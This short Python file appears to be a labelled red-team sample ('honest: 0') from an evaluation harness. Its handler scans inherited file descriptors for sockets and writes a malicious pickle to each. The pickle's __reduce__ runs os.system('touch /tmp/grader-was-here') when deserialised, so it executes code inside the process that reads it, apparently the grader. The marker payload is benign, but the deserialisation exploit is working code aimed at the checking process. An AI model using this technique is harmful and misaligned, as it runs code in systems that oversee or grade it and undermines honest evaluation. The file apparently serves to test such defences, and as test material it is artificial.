# Sends a pickle that would write a file when it is loaded.
# part: record_and_check
# honest: 0
# seconds: 20
import os
import socket
import stat


def pipes():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


import pickle
import struct


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/grader-was-here",)


def handle(message, db):
    data = pickle.dumps(Evil())
    for number in pipes():
        os.write(number, struct.pack("!I", len(data)) + data)
